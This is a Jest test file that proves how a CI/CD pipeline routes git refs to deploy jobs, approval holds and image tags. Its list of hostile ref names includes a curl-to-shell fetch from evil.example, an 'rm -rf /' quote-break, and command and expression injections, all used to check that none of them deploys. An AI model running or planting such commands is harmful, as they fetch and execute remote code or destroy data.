/**
 * Proof 3: for every row of the routing table (docs/design.md, environments.yml) and for hostile ref
 * names, the jobs that run and the environments they deploy to, computed from pipeline.yml itself:
 * its push filters, its job conditions (GitHub's expression engine), its needs, and resolve's
 * outputs from the real resolve logic over the real environments.yml.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'yaml';
import { loadEnvironments } from '@pipelines/environments';
import { renderTemplate } from './expressions';
import { resolveOutputsFor } from './resolveOutputs';
import { route, type Route } from './routing';
import { runScript } from './scripts';
import { repoRoot } from './paths';
import { workflowFromText, type JobModel, type WorkflowModel } from './workflowModel';
import { pipelineWithTriggers } from '../../docs/src/workflows';

const pipelineText = readFileSync(
  path.join(repoRoot, '.github', 'workflows', 'pipeline.yml'),
  'utf8',
);
const workflow = workflowFromText(pipelineText);

const CHECKS = [
  'resolve',
  'cache-dependencies',
  'test-jest',
  'test-mocha',
  'test-format',
  'test-secrets',
  'audit',
  'summary',
];
const BUILD = [...CHECKS, 'build', 'package'];
const DELIVER = [
  ...BUILD,
  'package-servers',
  'upload',
  'build-image',
  'images',
  'release-candidate',
];

let resolveOutputs: (ref: string) => Record<string, string>;
beforeAll(() => {
  resolveOutputs = resolveOutputsFor();
});

/** Routes a push; a ref the resolve logic refuses makes the resolve job fail, as the action would. */
function push(
  ref: string,
  wf: WorkflowModel = workflow,
  outputsFor: (ref: string) => Record<string, string> = resolveOutputs,
): Route {
  let outputs: Record<string, string> | undefined;
  try {
    outputs = outputsFor(ref);
  } catch {
    outputs = undefined;
  }
  return route(wf, {
    ref,
    outputsOf: (job) => (job === 'resolve' ? (outputs ?? {}) : {}),
    failing: outputs ? [] : ['resolve'],
  });
}

/**
 * The environments the deploy jobs enter. Every job declares `deployment: false`: the deploy jobs
 * record their deployments themselves (actions/deployment-record).
 */
const deployments = (r: Route) =>
  r.environments.filter((e) => ['deploy', 'deploy-with-approval'].includes(e.job));
const sorted = (jobs: string[]) => [...jobs].sort();

describe('pipeline routing: the rows of the table', () => {
  test.each([
    ['refs/heads/integration', 'mint'],
    ['refs/heads/staging', 'staging'],
    ['refs/tags/mint', 'mint'],
    ['refs/tags/amy', 'amy'],
    ['refs/tags/pat', 'pat'],
    ['refs/tags/qa', 'qa'],
    ['refs/tags/int-alice', 'int-alice'],
    ['refs/tags/int-team_2', 'int-team_2'],
    ['refs/tags/staging', 'staging'],
  ])('%s tests, builds, uploads and deploys to %s without a hold', (ref, environment) => {
    const r = push(ref);
    expect(sorted(r.ran)).toEqual(sorted([...DELIVER, 'deploy']));
    expect(deployments(r)).toEqual([{ job: 'deploy', environment, deployment: false }]);
    // The upload and the image push enter the same environment, without a deployment record.
    expect(
      r.environments.filter((e) => ['upload', 'images'].includes(e.job)).map((e) => e.environment),
    ).toEqual([environment, environment]);
  });

  test.each([
    'refs/heads/master',
    'refs/tags/production',
    'refs/tags/RELEASE-1',
    'refs/tags/RELEASE-2026',
  ])('%s uploads before the hold and deploys to prod only through deploy-with-approval', (ref) => {
    const r = push(ref);
    expect(sorted(r.ran)).toEqual(sorted([...DELIVER, 'deploy-with-approval']));
    expect(deployments(r)).toEqual([
      { job: 'deploy-with-approval', environment: 'prod', deployment: false },
    ]);
    // Before the hold nothing enters `prod` (entering it would start the hold before the upload).
    expect(
      r.environments.filter((e) => e.job !== 'deploy-with-approval').map((e) => e.environment),
    ).not.toContain('prod');
  });

  test.each([
    'refs/heads/Feature-login-12',
    'refs/heads/feature-login-12-retry',
    'refs/heads/snyk-fix-abc123',
  ])('%s builds and packages but deploys nothing', (ref) => {
    const r = push(ref);
    expect(sorted(r.ran)).toEqual(sorted(BUILD));
    expect(deployments(r)).toEqual([]);
  });

  test.each([
    'refs/heads/develop',
    'refs/heads/main',
    'refs/heads/docs/readme',
    'refs/heads/Feature-login',
  ])('%s runs the checks only', (ref) => {
    const r = push(ref);
    expect(sorted(r.ran)).toEqual(sorted(CHECKS));
    expect(deployments(r)).toEqual([]);
  });

  test.each(['refs/tags/v1.0.0', 'refs/tags/prod', 'refs/tags/int-a/b', 'refs/pull/7/merge'])(
    '%s does not start the pipeline at all',
    (ref) => {
      expect(push(ref)).toMatchObject({ triggered: false, ran: [] });
    },
  );
});

const HOSTILE = [
  'refs/heads/$(curl evil.example | sh)',
  'refs/heads/`id`',
  "refs/heads/master'; rm -rf /; '",
  'refs/heads/master"',
  'refs/heads/master ',
  'refs/heads/master\nrefs/heads/master',
  'refs/heads/master/evil',
  'refs/heads/Master',
  'refs/heads/MASTER',
  'refs/heads/xmaster',
  'refs/heads/production',
  'refs/heads/RELEASE-1',
  'refs/heads/prod',
  'refs/tags/master',
  'refs/tags/production2',
  'refs/tags/production/x',
  'refs/tags/RELEASE-',
  'refs/tags/RELEASE-1a',
  'refs/tags/RELEASE-1/../../x',
  'refs/tags/release-1',
  'refs/tags/RELEASE-１',
  'refs/tags/int-',
  'refs/tags/int-$(id)',
  'refs/tags/int-a..b',
  'refs/tags/stagingx',
  'refs/heads/staging/prod',
  'refs/heads/prød',
  `refs/heads/feature-${'a'.repeat(300)}`,
  'refs/heads/{{ needs.resolve.outputs.approval }}',
  "refs/heads/${{ 'prod' }}",
  'refs/heads/',
  '',
];

describe('pipeline routing: hostile and look-alike ref names', () => {
  test.each(HOSTILE.map((ref) => [JSON.stringify(ref), ref]))(
    '%s never deploys to prod or upper',
    (_name, ref) => {
      const r = push(ref);
      expect(r.ran).not.toContain('deploy-with-approval');
      expect(r.environments.map((e) => e.environment)).not.toContain('prod');
      // None of these is a row of the table: no deployment at all.
      expect(deployments(r)).toEqual([]);
    },
  );
});

describe('pipeline routing: prod', () => {
  test('no job names prod: the hold is the environment resolve decides, whatever environments.yml calls it', () => {
    expect(workflow.jobs.filter((j) => j.environment?.name === 'prod')).toEqual([]);
    expect(job('deploy-with-approval').environment?.name).toBe(
      '${{ needs.resolve.outputs.environment }}',
    );
  });

  test('across every ref tried, prod is entered only by deploy-with-approval, for master, production and RELEASE-<n>', () => {
    const refs = [
      ...HOSTILE,
      ...['integration', 'staging', 'master', 'develop', 'Feature-x-1', 'snyk-fix-1'].map(
        (b) => `refs/heads/${b}`,
      ),
      ...[
        'mint',
        'amy',
        'pat',
        'qa',
        'int-x',
        'staging',
        'production',
        'RELEASE-7',
        'RELEASE-x',
      ].map((t) => `refs/tags/${t}`),
    ];
    const toProd = refs.filter((ref) =>
      push(ref).environments.some((e) => e.environment === 'prod'),
    );
    expect(toProd.sort()).toEqual([
      'refs/heads/master',
      'refs/tags/RELEASE-7',
      'refs/tags/production',
    ]);
    for (const ref of toProd) {
      expect(
        push(ref)
          .environments.filter((e) => e.environment === 'prod')
          .map((e) => e.job),
      ).toEqual(['deploy-with-approval']);
    }
  });
});

describe('pipeline routing: the proof can fail', () => {
  test('a deploy job that forgot the approval condition would send master to prod without the hold', () => {
    const guard = " && needs.resolve.outputs.approval != 'true'";
    expect(pipelineText).toContain(guard);
    const broken = workflowFromText(pipelineText.replace(guard, ''));
    expect(deployments(push('refs/heads/master', broken)).map((d) => d.job)).toEqual([
      'deploy',
      'deploy-with-approval',
    ]);
  });
});

const SHA = '0123456789abcdef0123456789abcdef01234567';
const DEPLOYING_REFS: [string, string, boolean][] = [
  ['refs/heads/integration', 'mint', false],
  ['refs/tags/amy', 'amy', false],
  ['refs/tags/int-alice', 'int-alice', false],
  ['refs/heads/staging', 'staging', false],
  ['refs/heads/master', 'prod', true],
  ['refs/tags/production', 'prod', true],
  ['refs/tags/RELEASE-12', 'prod', true],
];
const job = (id: string): JobModel => workflow.jobs.find((j) => j.id === id)!;
/** A step input of a job as GitHub renders it for this route. */
const rendered = (r: Route, jobId: string, uses: string, input: string) =>
  renderTemplate(
    String(job(jobId).steps.find((s) => s.uses === uses)?.with[input]),
    r.scopes[jobId]!,
  );

describe('image tags', () => {
  test.each(DEPLOYING_REFS)(
    '%s pushes the image before any hold under a tag for %s that says whether it was approved',
    (ref, environment, approval) => {
      const tag = rendered(push(ref), 'images', './actions/ecr-push', 'tags');
      expect(tag).toBe(approval ? `${environment}-candidate-${SHA}` : `${environment}-${SHA}`);
    },
  );

  test('prod-<commit> is written only after approval, by promoting the pushed digest', () => {
    const r = push('refs/heads/master');
    const pushes = workflow.jobs.flatMap((j) =>
      j.steps.filter((s) => s.uses === './actions/ecr-push').map((s) => ({ job: j.id, step: s })),
    );
    const prodTags = pushes.filter(
      ({ job: id }) =>
        r.scopes[id] && rendered(r, id, './actions/ecr-push', 'tags') === `prod-${SHA}`,
    );
    expect(prodTags.map((p) => p.job)).toEqual(['deploy-with-approval']);
    // Every image of the run, by the digests release-candidate listed (what reviewers saw).
    expect(prodTags[0]!.step.with).toMatchObject({
      'source-images': '${{ needs.release-candidate.outputs.image-uris }}',
    });
    expect(prodTags[0]!.step.with.image).toBeUndefined();
    expect(prodTags[0]!.step.with.repository).toBeUndefined();
  });
});

describe('the function is served through its alias', () => {
  test.each(['deploy', 'deploy-with-approval'])(
    '%s publishes a version and moves the alias resolve names',
    (id) => {
      expect(job(id).steps.find((s) => s.uses === './actions/lambda-deploy')?.with).toMatchObject({
        publish: 'true',
        alias: '${{ needs.resolve.outputs.function-alias }}',
      });
    },
  );

  test('resolve passes the function-alias output on', () => {
    const outputs = (
      parse(pipelineText) as { jobs: { resolve: { outputs: Record<string, string> } } }
    ).jobs.resolve.outputs;
    expect(outputs['function-alias']).toBe('${{ steps.resolve.outputs.function-alias }}');
  });
});

describe('a pending approval blocks nothing else', () => {
  test('the run as a whole has no concurrency group (a run waiting for a reviewer would hold it)', () => {
    expect(workflow.concurrency).toBeUndefined();
  });

  test.each(DEPLOYING_REFS)(
    '%s: only the deploy job is in a group, deploy-%s, and it is never cancelled',
    (ref, environment, approval) => {
      const r = push(ref);
      const deployJob = approval ? 'deploy-with-approval' : 'deploy';
      expect(r.concurrency).toEqual([{ job: deployJob, group: `deploy-${environment}` }]);
      expect(job(deployJob).concurrency?.cancelInProgress).toBe(false);
    },
  );

  test.each(['deploy', 'deploy-with-approval'])(
    '%s checks that no newer run deployed and records its deployment, inside its group, before it asks for AWS credentials, and records the result last',
    (id) => {
      const steps = job(id).steps;
      const record = (phase: string) =>
        steps.findIndex((s) => s.uses === './actions/deployment-record' && s.with?.phase === phase);
      const credentials = steps.findIndex((s) =>
        s.uses?.startsWith('aws-actions/configure-aws-credentials@'),
      );
      // Right after the checkout, before the prod guard and any credential.
      expect(record('start')).toBe(1);
      expect(record('start')).toBeLessThan(credentials);
      expect(record('finish')).toBe(steps.length - 1);
    },
  );
});

describe('the dependency cache', () => {
  const prefix = (ref: string) => {
    const outputs = resolveOutputs(ref);
    return runScript('cache-key-prefix.sh', {
      TIER: outputs.tier ?? '',
      ENVIRONMENT: outputs.environment ?? '',
      APPROVAL: outputs.approval ?? '',
    }).outputs['key-prefix'];
  };

  test.each([
    ['refs/heads/master', 'upper-prod'],
    ['refs/tags/production', 'upper-prod'],
    ['refs/tags/RELEASE-3', 'upper-prod'],
    ['refs/heads/staging', 'upper'],
    ['refs/heads/integration', 'lower'],
    ['refs/heads/Feature-x-1', 'lower'],
    ['refs/heads/develop', 'lower'],
  ])('%s restores and saves only entries with the prefix %s', (ref, expected) => {
    expect(prefix(ref)).toBe(expected);
  });

  test('every install uses the prefix resolve chose and the GitHub backend (no S3: no credentials)', () => {
    const setups = workflow.jobs.flatMap((j) =>
      j.steps.filter((s) => s.uses === './.github/actions/setup'),
    );
    expect(setups.length).toBeGreaterThan(5);
    for (const step of setups) {
      expect(step.with).toMatchObject({
        'cache-key-prefix': '${{ needs.resolve.outputs.cache-key-prefix }}',
      });
      expect(step.with['cache-backend']).toBeUndefined();
    }
    expect(pipelineText).not.toContain('DEPENDENCY_CACHE');
  });
});

describe('SNYK_TOKEN', () => {
  test('is in the environment of the Snyk step alone', () => {
    const jobs = (parse(pipelineText) as { jobs: Record<string, Record<string, unknown>> }).jobs;
    const holders: string[] = [];
    for (const [id, raw] of Object.entries(jobs)) {
      if (JSON.stringify(raw.env ?? {}).includes('SNYK_TOKEN')) holders.push(`${id} (job env)`);
      (raw.steps as Record<string, unknown>[]).forEach((step, i) => {
        if (JSON.stringify(step).includes('secrets.SNYK_TOKEN')) holders.push(`${id}.steps[${i}]`);
      });
    }
    expect(holders).toHaveLength(1);
    expect(holders[0]).toMatch(/^audit\.steps\[\d+\]$/);
    const step = job('audit').steps[Number(/\[(\d+)\]/.exec(holders[0]!)![1])]!;
    expect(step.run).toContain('pnpm dlx snyk@');
  });
});

/**
 * A fork edits environments.yml only: its prod branch is main (GitHub's default for a new
 * repository), and it adds a second approval environment, preprod. The workflow is the committed
 * one with only its generated push tags regenerated (pnpm docs:generate).
 */
describe('an edited environments.yml routes with no workflow edit beyond the generated tags', () => {
  let forkDir: string;
  let fork: { workflow: WorkflowModel; outputs: (ref: string) => Record<string, string> };
  beforeAll(() => {
    forkDir = mkdtempSync(path.join(os.tmpdir(), 'fork-environments-'));
    const file = path.join(forkDir, 'environments.yml');
    const text = readFileSync(path.join(repoRoot, 'environments.yml'), 'utf8')
      .replace('    branches: [master]\n', '    branches: [main]\n')
      .replace(
        '  prod:\n',
        '  preprod:\n    tier: upper\n    approval: true\n    branches: [release]\n    tags: [preprod]\n  prod:\n',
      );
    writeFileSync(file, text);
    addBuildScript(forkDir, 'blog');
    fork = {
      workflow: workflowFromText(pipelineWithTriggers(pipelineText, loadEnvironments(file))),
      outputs: resolveOutputsFor(file),
    };
  });
  afterAll(() => rmSync(forkDir, { recursive: true, force: true }));

  const forkPush = (ref: string) => push(ref, fork.workflow, fork.outputs);

  test.each([
    ['refs/heads/main', 'prod'],
    ['refs/tags/RELEASE-4', 'prod'],
    ['refs/heads/release', 'preprod'],
    ['refs/tags/preprod', 'preprod'],
  ])(
    '%s uploads in the candidate environment, then waits in %s through deploy-with-approval',
    (ref, environment) => {
      const r = forkPush(ref);
      expect(sorted(r.ran)).toEqual(sorted([...DELIVER, 'deploy-with-approval']));
      expect(r.environments.filter((e) => e.job !== 'audit')).toEqual([
        { job: 'upload', environment: `${environment}-candidate`, deployment: false },
        { job: 'images', environment: `${environment}-candidate`, deployment: false },
        { job: 'deploy-with-approval', environment, deployment: false },
      ]);
      expect(r.concurrency).toEqual([
        { job: 'deploy-with-approval', group: `deploy-${environment}` },
      ]);
      // The guard checks the reviewers of the environment the job waits in, and the approved
      // image is promoted under that environment's tag, in the repository environments.yml names.
      expect(
        rendered(r, 'deploy-with-approval', './actions/environment-guard', 'environment'),
      ).toBe(environment);
      expect(rendered(r, 'images', './actions/ecr-push', 'tags')).toBe(
        `${environment}-candidate-${SHA}`,
      );
      expect(rendered(r, 'deploy-with-approval', './actions/ecr-push', 'tags')).toBe(
        `${environment}-${SHA}`,
      );
    },
  );

  test('master, no longer the prod branch, runs the checks only', () => {
    const r = forkPush('refs/heads/master');
    expect(sorted(r.ran)).toEqual(sorted(CHECKS));
    expect(deployments(r)).toEqual([]);
  });

  test('the new tag starts the pipeline only through the regenerated trigger (the committed one does not list it)', () => {
    expect(push('refs/tags/preprod', workflow, fork.outputs)).toMatchObject({ triggered: false });
    expect(forkPush('refs/tags/preprod').triggered).toBe(true);
  });
});

/** A fork's services/<service>/scripts/build-image.sh (resolve checks only that it exists). */
function addBuildScript(root: string, service: string) {
  const scripts = path.join(root, 'services', service, 'scripts');
  mkdirSync(scripts, { recursive: true });
  writeFileSync(path.join(scripts, 'build-image.sh'), '#!/usr/bin/env bash\n');
}

/**
 * A fork adds a second image: one line in environments.yml (names.image-repositories) and the
 * service's build script (services/<service>/scripts/build-image.sh, for hello). The committed workflow builds,
 * pushes and promotes it with the first, one matrix leg per image.
 */
describe('an edited environments.yml with a second image repository builds, pushes and promotes both, with no workflow edit', () => {
  let forkDir: string;
  let file: string;
  const images = ['pipelines/blog', 'pipelines/hello'];
  beforeAll(() => {
    forkDir = mkdtempSync(path.join(os.tmpdir(), 'fork-images-'));
    file = path.join(forkDir, 'environments.yml');
    const original = readFileSync(path.join(repoRoot, 'environments.yml'), 'utf8');
    const text = original.replace(
      'image-repositories: [pipelines/blog]',
      `image-repositories: [${images.join(', ')}]`,
    );
    expect(text).not.toBe(original);
    writeFileSync(file, text);
    addBuildScript(forkDir, 'blog');
    addBuildScript(forkDir, 'hello');
  });
  afterAll(() => rmSync(forkDir, { recursive: true, force: true }));

  // Read at each push, as the resolve job reads the checkout of its run.
  const forkPush = (ref: string) => push(ref, workflow, (r) => resolveOutputsFor(file)(r));
  /** An input of a job's step (found by `uses`), rendered for each matrix leg. */
  const perLeg = (r: Route, jobId: string, uses: string, input: string) =>
    (r.legs[jobId] ?? []).map((scope) =>
      renderTemplate(
        String(
          job(jobId)
            .steps.filter((s) => s.uses?.startsWith(uses))
            .map((s) => s.with[input])
            .find((v) => v !== undefined),
        ),
        scope,
      ),
    );

  test('a push to integration builds each image in its own leg, from its own service, and pushes each to its own repository by digest', () => {
    const r = forkPush('refs/heads/integration');
    expect(sorted(r.ran)).toEqual(sorted([...DELIVER, 'deploy']));
    expect(perLeg(r, 'build-image', './.github/actions/setup', 'reuse')).toEqual([
      'blog-image',
      'hello-image',
    ]);
    expect(perLeg(r, 'build-image', 'actions/upload-artifact@', 'name')).toEqual([
      'image-blog',
      'image-hello',
    ]);
    expect(perLeg(r, 'images', 'actions/download-artifact@', 'name')).toEqual([
      'image-blog',
      'image-hello',
    ]);
    expect(perLeg(r, 'images', './actions/ecr-push', 'repository')).toEqual(images);
    expect(perLeg(r, 'images', './actions/ecr-push', 'tags')).toEqual([
      `mint-${SHA}`,
      `mint-${SHA}`,
    ]);
    expect(perLeg(r, 'images', 'actions/upload-artifact@', 'name')).toEqual([
      'image-result-blog',
      'image-result-hello',
    ]);
    // The build step runs the service's own script, named from the leg's service.
    const build = job('build-image').steps.find((s) => /build-image\.sh/.test(s.run ?? ''));
    expect(build?.run).toBe('bash "services/$SERVICE/scripts/build-image.sh" "$OUT_DIR"');
    // After the matrix, every leg's result is read back (a matrix job's outputs are one leg's).
    const results = job('release-candidate').steps.find((s) =>
      s.uses?.startsWith('actions/download-artifact@'),
    );
    expect(results?.with).toMatchObject({ pattern: 'image-result-*', 'merge-multiple': true });
  });

  test('a push to master promotes both images after approval, by the digests release-candidate listed', () => {
    const r = forkPush('refs/heads/master');
    expect(sorted(r.ran)).toEqual(sorted([...DELIVER, 'deploy-with-approval']));
    expect(perLeg(r, 'images', './actions/ecr-push', 'tags')).toEqual([
      `prod-candidate-${SHA}`,
      `prod-candidate-${SHA}`,
    ]);
    const promote = job('deploy-with-approval').steps.find((s) => s.uses === './actions/ecr-push');
    expect(promote?.with['source-images']).toBe(
      '${{ needs.release-candidate.outputs.image-uris }}',
    );
    expect(rendered(r, 'deploy-with-approval', './actions/ecr-push', 'tags')).toBe(`prod-${SHA}`);
  });

  test("without the hello service's build script, resolve fails and nothing is built or deployed", () => {
    rmSync(path.join(forkDir, 'services', 'hello'), { recursive: true });
    try {
      expect(() => resolveOutputsFor(file)).toThrow(
        /pipelines\/hello is built by services\/hello\/scripts\/build-image\.sh, which does not exist/,
      );
      const r = forkPush('refs/heads/integration');
      expect(r.results.resolve).toBe('failure');
      expect(r.ran).not.toContain('build-image');
      expect(deployments(r)).toEqual([]);
    } finally {
      addBuildScript(forkDir, 'hello');
    }
  });
});

describe("the servers get the run's releases in the deploy job only", () => {
  type RawStep = { if?: string; uses?: string; with?: Record<string, string> };
  const raw = parse(pipelineText) as { jobs: Record<string, { steps?: RawStep[] }> };
  const rollouts = Object.entries(raw.jobs).flatMap(([id, j]) =>
    (j.steps ?? []).filter((s) => s.uses === './actions/server-rollout').map((s) => ({ id, s })),
  );

  test('only deploy and deploy-with-approval roll out (so prod servers change only after the hold)', () => {
    expect(rollouts.map((r) => r.id).sort()).toEqual(['deploy', 'deploy-with-approval']);
  });

  test.each(['deploy', 'deploy-with-approval'])(
    '%s rolls out only where resolve says the environment owns servers, after lambda-deploy and before the result is recorded',
    (id) => {
      const steps = raw.jobs[id]!.steps!;
      const at = steps.findIndex((s) => s.uses === './actions/server-rollout');
      expect(steps[at]?.if).toBe("needs.resolve.outputs.servers == 'true'");
      expect(steps[at]?.with).toMatchObject({
        environment: '${{ needs.resolve.outputs.environment }}',
        document: '${{ needs.resolve.outputs.deploy-document }}',
      });
      expect(at).toBeGreaterThan(steps.findIndex((s) => s.uses === './actions/lambda-deploy'));
      expect(at).toBeLessThan(
        steps.findIndex(
          (s) => s.uses === './actions/deployment-record' && s.with?.phase === 'finish',
        ),
      );
      // Exactly the uploaded object versions and their sha256, never a bare key.
      expect(steps[at]?.with?.releases).toContain(
        '?versionId=${{ needs.upload.outputs.blog-version-id }} ${{ needs.upload.outputs.blog-sha256 }}',
      );
    },
  );
});
